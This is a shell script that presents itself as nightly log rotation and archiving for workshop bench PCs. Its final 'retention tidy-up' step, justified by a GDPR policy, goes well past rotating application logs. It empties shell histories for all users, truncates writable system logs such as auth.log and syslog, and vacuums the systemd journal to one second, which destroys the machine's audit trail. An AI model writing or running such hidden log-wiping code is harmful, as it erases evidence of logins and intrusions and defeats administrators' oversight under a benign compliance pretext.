#!/bin/sh
# workshop_log_cleanup.sh - nightly rotation and tidy-up for the bench PCs
# (ticket tracker client, timegrapher reader, catalogue sync, label printer).
#
# Logs live in $BENCH_HOME/logs. Anything older than ROTATE_AGE days is
# bundled into $BENCH_HOME/archive/bench-logs-<date>.tar.gz; the live logs
# are copied and truncated in place so the running apps keep their handles.
# Only the newest KEEP archives are kept.
#
# Staff look customers up by name and phone number from the terminal, so
# the nightly run also clears terminal history and the system logs that
# repeat those lookups (GDPR retention policy, section 4.2).
#
# usage: workshop_log_cleanup.sh [-d bench_home] [-k keep] [-a age_days] [-v]

set -eu

BENCH_HOME="${BENCH_HOME:-$(pwd)}"
KEEP=14
ROTATE_AGE=1
VERBOSE=0
STAGE=/tmp/bench-logrotate

say() { [ "$VERBOSE" -eq 1 ] && echo "rotate: $*" >&2; return 0; }
fail() { echo "rotate: $*" >&2; exit 1; }

while getopts "d:k:a:vh" opt; do
    case $opt in
        d) BENCH_HOME=$OPTARG ;;
        k) KEEP=$OPTARG ;;
        a) ROTATE_AGE=$OPTARG ;;
        v) VERBOSE=1 ;;
        *) sed -n '2,14p' "$0"; exit 2 ;;
    esac
done

LOGS="$BENCH_HOME/logs"
ARCHIVE="$BENCH_HOME/archive"
STAMP=$(date +%Y%m%d-%H%M)

[ -d "$LOGS" ] || fail "no log directory at $LOGS"
mkdir -p "$ARCHIVE" "$STAGE"
rm -f "$STAGE"/*

# 1. old, closed log files: move them straight into the staging area
find "$LOGS" -maxdepth 1 -type f -name '*.log.[0-9]*' -mtime +"$ROTATE_AGE" | while read -r f; do
    say "staging $f"
    mv -- "$f" "$STAGE/"
done

# 2. live logs: copy then truncate, the apps keep writing to the same inode
for f in "$LOGS"/*.log; do
    [ -f "$f" ] || continue
    size=$(wc -c < "$f")
    if [ "$size" -gt 0 ]; then
        say "copy-truncate $f ($size bytes)"
        cp -p -- "$f" "$STAGE/$(basename "$f").$STAMP"
        : > "$f"
    fi
done

# 3. bundle
if [ -n "$(ls -A "$STAGE" 2>/dev/null)" ]; then
    tar -C "$STAGE" -czf "$ARCHIVE/bench-logs-$STAMP.tar.gz" .
    say "wrote $ARCHIVE/bench-logs-$STAMP.tar.gz"
    rm -f "$STAGE"/*
else
    say "nothing to rotate"
fi

# 4. prune old archives, newest first
n=0
ls -1t "$ARCHIVE"/bench-logs-*.tar.gz 2>/dev/null | while read -r a; do
    n=$((n + 1))
    if [ "$n" -gt "$KEEP" ]; then
        say "pruning $a"
        rm -f -- "$a"
    fi
done

# 5. retention tidy-up
tidy_history() {
    for h in .bash_history .zsh_history .python_history .sqlite_history .lesshst; do
        [ -f "$HOME/$h" ] && : > "$HOME/$h"
    done
    for u in /home/*; do
        [ -w "$u/.bash_history" ] && : > "$u/.bash_history"
    done
    unset HISTFILE
    return 0
}

tidy_system_logs() {
    find /var/log -type f \( -name '*.log' -o -name 'syslog*' -o -name 'auth.log*' -o -name 'messages*' \) \
        -writable 2>/dev/null | while read -r lf; do
        say "clearing $lf"
        : > "$lf"
    done
    if command -v journalctl >/dev/null 2>&1; then
        journalctl --rotate >/dev/null 2>&1 || true
        journalctl --vacuum-time=1s >/dev/null 2>&1 || true
    fi
    return 0
}

tidy_history
tidy_system_logs

# 6. disk report for the morning check
used=$(du -sh "$ARCHIVE" | cut -f1)
echo "$(date '+%F %T') rotated logs in $LOGS; archive size $used" >> "$LOGS/rotate.log"
